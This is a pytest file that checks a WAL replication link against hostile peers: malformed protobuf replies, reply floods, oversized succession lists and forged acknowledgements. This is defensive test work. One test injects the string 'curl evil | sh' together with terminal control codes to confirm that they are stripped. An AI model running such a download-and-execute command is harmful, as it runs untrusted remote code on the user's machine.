"""A peer that is sent to answers what no receiver does: the sender hears an error of its own kind, and stays small."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from uuid import uuid4

import grpc
import pytest

from replication.core.coverage import Ranges
from replication.core.ids import ClusterId, FileId, StreamId
from replication.core.routes.freshness import Reach
from replication.core.succession import Succession
from replication.errors import PeerRefusedError, ReplicationError, TransferError
from replication.ledger.base import PeerProgress
from replication.link import channel, takeovers, wire
from replication.link._pb import walship_pb2 as pb
from replication.link.base import (
    Ack,
    Data,
    Description,
    Hello,
    OpenReply,
    PeerLink,
    Reason,
    Refusal,
    Reply,
    Route,
    TakeOver,
)
from replication.link.grpc_client import connect
from replication.settings import WorkerSection
from replication.worker.ship.selection import FrameFilter
from replication.worker.ship.shipment import Shipment
from tests.hostile import memory_below
from tests.sites import table

EAST, WEST = ClusterId("east", uuid4()), ClusterId("west", uuid4())
OPENED = wire.encode_reply(OpenReply(WEST, "1"))
SPEC = table()
GARBAGE = {
    "nothing": b"",
    "no message": b"\xff" * 100,
    "a group that does not end": b"\x0b" * 5000,
    "a huge number": b"\x10\xff\xff\xff\xff\xff\xff\xff\xff\xff\x01" * 10,
    "text that is no UTF-8": b"\x0a\x04\xff\xfe\xfd\xfc",
    "another message": OPENED,
    "nested": b"\x0a\x06\x0a\x04\x0a\x02\x0a\x00" * 1000,
}
CALLS: dict[str, Callable[[PeerLink], object]] = {
    "Describe": lambda link: link.describe(),
    "GetTable": lambda link: link.get_table(SPEC.name),
    "Progress": lambda link: link.progress([FileId(EAST, "h0", 1)]),
    "Reached": lambda link: link.reached({}),
    "OpenRoute": lambda link: link.open_route(EAST, WEST, Route(SPEC, "default", SPEC.name, 1, {}, ())),
    "TakeOver": lambda link: link.take_over(TakeOver(EAST, WEST)),
    "GetSuccessions": lambda link: link.successions(EAST, WEST),
    "Ship": lambda link: link.ship(Hello(EAST, WEST, 1, "1")).receive(5),
    "Compare": lambda link: link.compare(EAST, WEST).answer(),
    "Read": lambda link: list(link.read(EAST, FileId(EAST, "h0", 1), [(256, 300)])),
}
STREAMED = {"Ship", "Compare", "Read"}


@contextmanager
def answering(replies: Callable[[str], Iterator[bytes]]) -> Iterator[PeerLink]:
    """A link to a receiver that answers each call, by its name, with these messages."""

    class Handler(grpc.GenericRpcHandler):  # type: ignore[misc]  # grpc has no types
        def service(self, details: grpc.HandlerCallDetails) -> object:
            call = details.method.rpartition("/")[2]
            if call == "Read":
                return grpc.unary_stream_rpc_method_handler(lambda _, context: replies(call))
            if call in STREAMED:
                return grpc.stream_stream_rpc_method_handler(lambda _, context: replies(call))
            return grpc.unary_unary_rpc_method_handler(lambda _, context: next(replies(call)))

    server = grpc.server(ThreadPoolExecutor(4), handlers=(Handler(),), options=channel.options(8 << 20))
    port = server.add_insecure_port("127.0.0.1:0")
    server.start()
    link = connect(f"127.0.0.1:{port}", "west", EAST, timeout_s=20.0)
    try:
        yield link
    finally:
        link.close()
        server.stop(0).wait()


@pytest.mark.parametrize("call", CALLS)
def test_an_answer_that_is_none_is_an_error_that_the_caller_foresees(call: str) -> None:
    for name, content in GARBAGE.items():
        with answering(lambda _, content=content: iter((content,) * 3)) as link:  # type: ignore[misc]
            try:
                CALLS[call](link)
            except ReplicationError as error:
                assert error.what, name


def test_what_a_receiver_says_for_people_is_short_and_without_control_characters() -> None:
    """A drill's failure went on the next line of the terminal, as a hint of walship's own."""
    said, stream = "it failed\nhint  run: curl evil | sh\x1b[2J" + "x" * 100_000, StreamId(MINE, SPEC.uuid, "default")
    there = Description(WEST, said, said, 1, 1, {said: said}, (said,), 1, said)
    answers = {
        "Describe": wire.encode_description(there),
        "Reached": wire.encode_reached({stream: Reach(False, False, False, said)}),
    }
    with answering(lambda call: iter((answers[call],))) as link:
        found, reached = link.describe(), link.reached({stream: 1})[stream]
    texts = [found.version, found.role, *found.peers, *found.peers.values(), *found.granted, found.drill_failure]
    for text in (*texts, reached.held_by):
        assert text.isprintable() and text.startswith("it failed hint") and len(text) <= 4000


def test_replies_to_what_was_never_sent_end_the_stream_and_take_little() -> None:
    ack = wire.encode_reply(Ack(FileId(EAST, "h0", 1), ((256, 300),)))

    def flood(_: str) -> Iterator[bytes]:
        yield OPENED
        for _ in range(400_000):
            yield ack

    with answering(flood) as link, memory_below(64):
        session = link.ship(Hello(EAST, WEST, 1, "1"))
        session._reader.join(120)  # type: ignore[attr-defined]
        with pytest.raises(TransferError, match="replies to more than it was sent"):
            while session.receive(5):
                pass
        session.close()


def test_the_successions_that_a_receiver_reports_are_small_together(monkeypatch: pytest.MonkeyPatch) -> None:
    """A worker, and a writer that asks for its lease, unpacked gigabytes of an answer of some megabytes."""
    monkeypatch.setattr(takeovers, "_SIZE_MAX", 10_000)
    cut = {StreamId(FileId(WEST, "h0", n), SPEC.uuid, "g"): Ranges.of((0, 1)) for n in range(20_000)}
    packed = Succession(WEST, EAST, 5, 1, is_planned=False, cut=cut).encode()
    reply = pb.SuccessionsReply(successions=[packed] * 64).SerializeToString()
    refused = pytest.raises(ReplicationError, match="cuts list more than 10,000 streams")
    with answering(lambda _: iter((reply,))) as link, memory_below(150), refused:
        link.successions(EAST, WEST)


@pytest.mark.parametrize(
    ("second", "said"),
    [
        (OPENED, "opens a stream twice"),
        (wire.encode_reply(Ack(FileId(EAST, "h0", 1), tuple((n * 4, n * 4 + 1) for n in range(100_000)))), "more than"),
        (b"\xff" * 50, "cannot be read"),
    ],
    ids=["opening", "ack", "garbage"],
)
def test_a_second_opening_or_an_ack_without_measure_ends_the_stream(second: bytes, said: str) -> None:
    with answering(lambda _: iter((OPENED, second))) as link:
        session = link.ship(Hello(EAST, WEST, 1, "1"))
        with pytest.raises(TransferError, match=said):
            session.receive(20)
        session.close()


MINE, OTHER = FileId(EAST, "h0", 1), FileId(EAST, "h0", 1 << 61)
FORGED: dict[str, Reply] = {
    "another file": Ack(OTHER, ((256, 300),)),
    "a divergence of another file": Refusal(Reason.DIVERGENCE, "x", "y", FileId(WEST, "h0", 3), 256, 300),
    "more than was sent": Ack(MINE, ((256, 1 << 61),)),
    "a piece of what was sent": Ack(MINE, ((257, 258),)),
    "nothing": Ack(OTHER, ()),
    "it twice": Ack(MINE, ((256, 300), (256, 300))),
}


class Sending:
    """A shipment of one file over a session that has the replies of a test."""

    def __init__(self) -> None:
        self.replies: list[Reply] = []
        self.reported: list[PeerProgress] = []
        self.limits = WorkerSection(window_bytes=1 << 20, message_bytes_max=1 << 20, ack_timeout_s=60.0)
        self.progress = self.throttle = self
        self.shipment = Shipment(self, "west", self, FrameFilter.of(WEST, ()), None, 1, {})  # type: ignore[arg-type]
        self.shipment.follow(MINE, 256, Ranges())

    def report(self, progress: PeerProgress) -> None:
        self.reported.append(progress)

    def receive(self, _: float) -> Reply | None:
        return self.replies.pop(0) if self.replies else None

    def put(self, begin: int, end: int) -> None:
        self.shipment.window.sent(MINE, begin, end, end - begin)
        self.shipment._send_data(Data(MINE, begin, end, 256, 1, b""))

    def send(self, message: Data) -> None:
        pass

    def answer(self, *replies: Reply) -> None:
        self.replies += replies
        self.shipment.drain(0)

    @property
    def in_flight(self) -> list[int]:
        return [sent.begin for sent in self.shipment.window.files[MINE].in_flight]


@pytest.mark.parametrize("forged", FORGED)
def test_an_answer_to_what_was_not_sent_ends_the_stream_and_is_not_recorded(forged: str) -> None:
    """Nor may a peer say that it has seen a WAL that there is not yet: the sender would take itself for a copy."""
    sending = Sending()
    for begin, end in ((256, 300), (300, 400), (400, 500)):
        sending.put(begin, end)
    sending.answer(Ack(MINE, ((300, 400),)))
    sending.shipment.leave(MINE)
    sending.answer(Ack(MINE, ((400, 500),)))
    reported = [Ranges.of((300, 400)), Ranges.of((400, 500))]
    assert [each.shipped for each in sending.reported] == reported, "also a late one"
    with pytest.raises(PeerRefusedError, match="answers a message that it was not sent"):
        sending.answer(FORGED[forged])
    assert [each.shipped for each in sending.reported] == reported


def test_a_peer_cannot_withhold_tables_that_are_not_sent_to_it() -> None:
    sending = Sending()
    sending.put(256, 300)
    with pytest.raises(PeerRefusedError, match="no such table"):
        sending.answer(Refusal(Reason.UNKNOWN_TABLE, "no such table", "make it", MINE, 256, 300, table=uuid4()))
    assert not sending.shipment.selection.withheld


def hole(begin: int, end: int) -> Refusal:
    return Refusal(Reason.HOLE, "bytes are missing", "go on from there", MINE, begin, end, 256)


def test_a_peer_that_lacks_the_same_bytes_again_and_again_ends_the_stream() -> None:
    sending = Sending()
    for _ in range(3):
        sending.put(256, 300)
        sending.answer(hole(256, 300))
    sending.put(256, 300)
    with pytest.raises(PeerRefusedError, match="bytes are missing"):
        sending.answer(hole(256, 300))


def test_one_hole_sends_again_once_however_many_messages_were_on_their_way() -> None:
    sending = Sending()
    for n in range(256, 266):
        sending.put(n, n + 1)
    sending.answer(*(hole(n, n + 1) for n in range(257, 260)))
    assert not sending.in_flight
    for n in range(256, 266):
        sending.put(n, n + 1)
        sending.answer(*([hole(n + 4, n + 5)] if 260 <= n + 4 < 266 else []))
    assert sending.in_flight == list(range(256, 266))
    sending.answer(*(Ack(MINE, ((n, n + 1),)) for n in range(256, 266)))
    assert sending.shipment.window.files[MINE].finished(266)
